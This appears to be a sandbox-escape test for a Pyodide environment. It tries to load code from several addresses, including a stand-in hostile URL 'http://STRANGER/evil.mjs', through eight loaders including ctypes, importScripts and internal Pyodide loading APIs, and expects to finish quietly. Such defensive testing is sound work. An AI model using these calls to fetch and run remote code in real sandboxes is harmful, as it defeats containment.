# tries: loading a module, a library or a script from an address
# as: run
# must: finished
# prints: done
import ctypes

import js
import pyodide_js

ADDRESSES = (
    "http://STRANGER/evil.mjs",
    "/evil.mjs",
    "/workers/evil.mjs?secret",
    "data:text/javascript,0",
)
for address in ADDRESSES:
    for attempt in (
        lambda: ctypes.CDLL(address),
        lambda: js.importScripts(address),
        lambda: pyodide_js._api.loadScript(address),
        lambda: pyodide_js._module.loadDynamicLibrary(address, {"loadAsync": True}),
        lambda: pyodide_js._module.asyncLoad(address),
        lambda: pyodide_js._module.readAsync(address),
        lambda: pyodide_js._module.loadWebAssemblyModule(address),
        lambda: pyodide_js.loadPackage(address),
    ):
        try:
            attempt()
        except BaseException:
            pass
print("done")
